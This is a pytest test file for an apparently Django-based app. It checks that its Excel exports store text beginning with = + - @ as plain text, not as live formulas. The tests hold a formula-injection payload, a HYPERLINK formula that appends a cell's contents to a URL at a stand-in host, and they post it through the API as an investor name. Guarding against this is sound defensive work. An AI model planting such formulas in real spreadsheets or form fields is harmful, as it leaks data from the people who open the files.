"""Exported text never runs as a formula (SPEC §16): = + - @ are written as text, everywhere."""
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from zhaoshang.core.tests.users import office_user
from zhaoshang.core.xlsx import Workbook, workbook_bytes

PLANTED = '=HYPERLINK("http://example.invalid/?"&B3, "详情")'
ROOT = Path(__file__).resolve().parents[2]


def formulas(content):
    """The <f> elements of every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(rb"<f[ >].*?</f>", archive.read(name))]


@pytest.mark.parametrize("write_only", [False, True])
@pytest.mark.parametrize("text", [PLANTED, "+86 772 1234", "-打折", "@某人"])
def test_text_that_looks_like_a_formula_stays_text(text, write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("表") if write_only else workbook.active
    if write_only:
        sheet.append([text, -5, "普通文字"])
    else:
        sheet["A1"], sheet["B1"], sheet["C1"] = text, -5, "普通文字"
    content = workbook_bytes(workbook)
    assert formulas(content) == []
    cells = load_workbook(io.BytesIO(content)).worksheets[0]
    assert cells["A1"].value == text and cells["A1"].data_type == "s"
    assert cells["A1"].quotePrefix  # stays text when a person edits the cell
    assert cells["B1"].value == -5  # negative numbers stay numbers
    assert not cells["C1"].quotePrefix


def test_no_builder_makes_an_openpyxl_workbook_of_its_own():
    own = [str(path.relative_to(ROOT)) for path in ROOT.rglob("*.py")
           if "tests" not in path.parts and path.name != "xlsx.py"
           and re.search(r"from openpyxl import .*\bWorkbook\b|openpyxl\.Workbook\(", path.read_text())]
    assert own == []


@pytest.fixture
def planted(plan2021):
    office = office_user()
    api = APIClient()
    api.force_authenticate(office)
    response = api.post("/api/projects/", {
        "code": "F-HACK", "name": "=1+1", "group": "forestry", "stage": "signed",
        "signed_on": "2021-04-01", "investor": PLANTED, "origin": "domestic_external",
        "total_investment": "12000.00"}, format="json")
    assert response.status_code == 201, response.content
    client = Client()
    client.force_login(office)
    return client


@pytest.mark.parametrize("url", ["/projects/export.xlsx", "/reports/attachment2.xlsx?year=2021",
                                 "/reports/attachment1.xlsx?year=2021"])
def test_exports_write_a_planted_formula_as_text(planted, url):
    response = planted.get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert formulas(content) == []
    texts = [cell.value for sheet in load_workbook(io.BytesIO(content)).worksheets
             for row in sheet.iter_rows() for cell in row]
    if "attachment1" not in url:
        assert PLANTED in texts
